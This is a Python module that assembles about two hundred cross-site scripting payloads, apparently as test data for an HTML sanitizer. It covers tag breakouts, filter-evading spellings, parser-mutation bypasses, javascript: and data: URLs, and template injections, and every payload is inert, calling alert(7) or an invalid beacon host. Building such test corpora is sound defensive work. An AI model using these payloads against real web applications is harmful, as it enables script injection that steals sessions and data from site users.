"""Two hundred shapes in which text has been made to run as script, put together systematically.

Every one calls ``alert`` or asks ``//beacon.invalid`` for something, if a page takes it for more than text.
"""

from collections.abc import Iterator

CALL = "alert(7)"
BEACON = "//beacon.invalid/x"

# How text gets out of where it stands: an attribute, an element whose content is not markup, a comment, a script.
CLOSED = ("title", "textarea", "style", "script", "noscript", "template")
BREAKOUTS = ["", '">', "'>", "-->", "]]>", *(f"</{name}>" for name in CLOSED)]

# What runs by itself once it is markup.
ELEMENTS = [
    f"<script>{CALL}</script>",
    f"<script src={BEACON}></script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<link rel=stylesheet href={BEACON}>",
    f"<style>@import '{BEACON}';</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<base href={BEACON}/>",
    f"<img src={BEACON}>",
    f"<form><button formaction=javascript:{CALL} autofocus onfocus={CALL}>x</button></form>",
]

# The same element, spelt so that a filter of strings passes it.
SPELLINGS = [
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script\t>{CALL}</script\n>",
    f"<script/x>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f"<script>{CALL}",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x onerror\n=\n{CALL}>",
    f"<img src=x oNeRrOr={CALL}>",
    f'<img src="x"onerror="{CALL}">',
    f"<img src=x onerror=`{CALL}`>",
    "<img src=x onerror=alert&lpar;7&rpar;>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(7)>",
    "<img src=x onerror=&#x61;lert(7)>",
    "<img src=x onerror=\\u0061lert(7)>",
    "<img src=x onerror=window['al'+'ert'](7)>",
    "<img src=x onerror=(alert)`7`>",
    "<img src=x onerror=throw/**/onerror=alert,7>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    "<svg><script>alert&#40;7&#41;</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={CALL} attributeName=x>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=20>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>#x\">",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<svg><image href=x onerror={CALL}>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<math href=javascript:{CALL}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
    f"<xss style=animation-name:x onanimationstart={CALL}>x</xss>",
    f"<x contenteditable autofocus tabindex=1 onfocus={CALL}>x</x>",
    f"<select autofocus onfocus={CALL}><option>x</select>",
    f"<keygen autofocus onfocus={CALL}>",
    f"<isindex type=image src=x onerror={CALL}>",
    f"<table background=javascript:{CALL}><tr><td>x</table>",
    f'<div style="background:url(javascript:{CALL})">x</div>',
    f'<div style="width:expression({CALL})">x</div>',
    f'<div style="background:url({BEACON})">x</div>',
    f'<p style="content:url({BEACON})">x</p>',
]

# What a browser makes of it differs from what a parser before it made: mutation.
MUTATIONS = [
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f'<style><p title="</style><img src=x onerror={CALL}>">',
    f'<template><p title="</template><img src=x onerror={CALL}>">',
    f'<textarea><p title="</textarea><img src=x onerror={CALL}>">',
    f'<xmp><p title="</xmp><img src=x onerror={CALL}>">',
    f'<noembed><p title="</noembed><img src=x onerror={CALL}>">',
    f'<iframe><p title="</iframe><img src=x onerror={CALL}>">',
    f"<plaintext><img src=x onerror={CALL}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">',
    f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>",
    f"<svg><desc><img src=x onerror={CALL}></desc></svg>",
    f"<svg><title><style><img src=x onerror={CALL}></style></title></svg>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!-- --!><img src=x onerror={CALL}> -->",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f"<?xml ?><img src=x onerror={CALL}>",
    f'<a title="`<img src=x onerror={CALL}>`">x</a>',
    f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"＜script＞{CALL}＜/script＞",
    f"\ufeff<script>{CALL}</script>",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"<!--slot:banners home client - --><script>{CALL}</script>",
    f"<!--/after--><img src=x onerror={CALL}><!--after 2020-01-01T00:00:00+00:00-->",
]

# Attributes one gets into without a bracket.
ATTRIBUTES = [
    f'" onmouseover="{CALL}',
    f"' onmouseover='{CALL}",
    f'" autofocus onfocus="{CALL}" x="',
    f"' autofocus tabindex=0 onfocus='{CALL}",
    f"x onfocus={CALL} autofocus",
    f'" style="animation-name:x" onanimationstart="{CALL}',
    f'" onerror="{CALL}" src="x',
    f'"/onload="{CALL}',
    f"` onmouseover=`{CALL}",
    f'\\" onmouseover=\\"{CALL}',
    f"&quot; onmouseover=&quot;{CALL}",
    f'" accesskey="x" onclick="{CALL}" x="',
    f'" srcset="{BEACON} 1x',
    f'" ping="{BEACON}',
    f'" is="x-y" onload="{CALL}',
]

# Addresses that are programs.
ADDRESSES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f" javascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A&#x61vascript:{CALL}",
    f"javascript://example.org/%0a{CALL}",
    f"javascript:/*--></title></style></textarea></script><svg onload={CALL}>*/",
    f"view-source:javascript:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    f"feed:javascript:{CALL}",
    f"blob:javascript:{CALL}",
    f'https://example.org/"onmouseover="{CALL}',
]

# What a script, a template or a style would run.
CODE = [
    f"';{CALL};//",
    f'";{CALL};//',
    f"\\';{CALL};//",
    f"</script><script>{CALL}</script>",
    f"*/{CALL}/*",
    f"\u2028{CALL}\u2029",
    f"${{{CALL}}}",
    f"{{{{{CALL}}}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"{{% include 'x' %}}{{{{ '<script>{CALL}</script>'|safe }}}}",
    f"#{{{CALL}}}",
    f"<%= {CALL} %>",
    f"${{(()=>{CALL})()}}",
    f"`-{CALL}-`",
    f"__proto__[innerHTML]=<img src=x onerror={CALL}>",
    f"}}</style><script>{CALL}</script>",
    f"}}body{{background:url({BEACON})}}",
    f"@import url({BEACON});",
    f"<mark><img src=x onerror={CALL}></mark>",
    f"10.1000/<script>{CALL}</script>",
    f'10.1000/"><img src=x onerror={CALL}>',
    f"10.1000/x' onmouseover='{CALL}",
    f"pp. 1–2<img src=x onerror={CALL}>",
    f"[x](javascript:{CALL})",
    f'<a href="javascript:{CALL}">x</a>',
    f'<a href="java&#10;script:{CALL}">x</a>',
    f"<a href=' javascript:{CALL}'>x</a>",
    f"<a linktype=page id=1 onclick={CALL} href=javascript:{CALL}>x</a>",
    f"<embed embedtype=image id=1 format=left alt='\"><img src=x onerror={CALL}>'/>",
    f'<a href="https://example.org" onclick="{CALL}" style="position:fixed;inset:0">x</a>',
]


def made() -> Iterator[str]:
    """Give every payload once."""
    # Each way out with a different element behind it, then whatever stands by itself.
    for position, breakout in enumerate(BREAKOUTS):
        for step in (0, 3, 7, 11, 13):
            yield breakout + ELEMENTS[(position + step) % len(ELEMENTS)]
    for group in (ELEMENTS, SPELLINGS, MUTATIONS, ATTRIBUTES, ADDRESSES, CODE):
        yield from group


PAYLOADS = list(dict.fromkeys(made()))
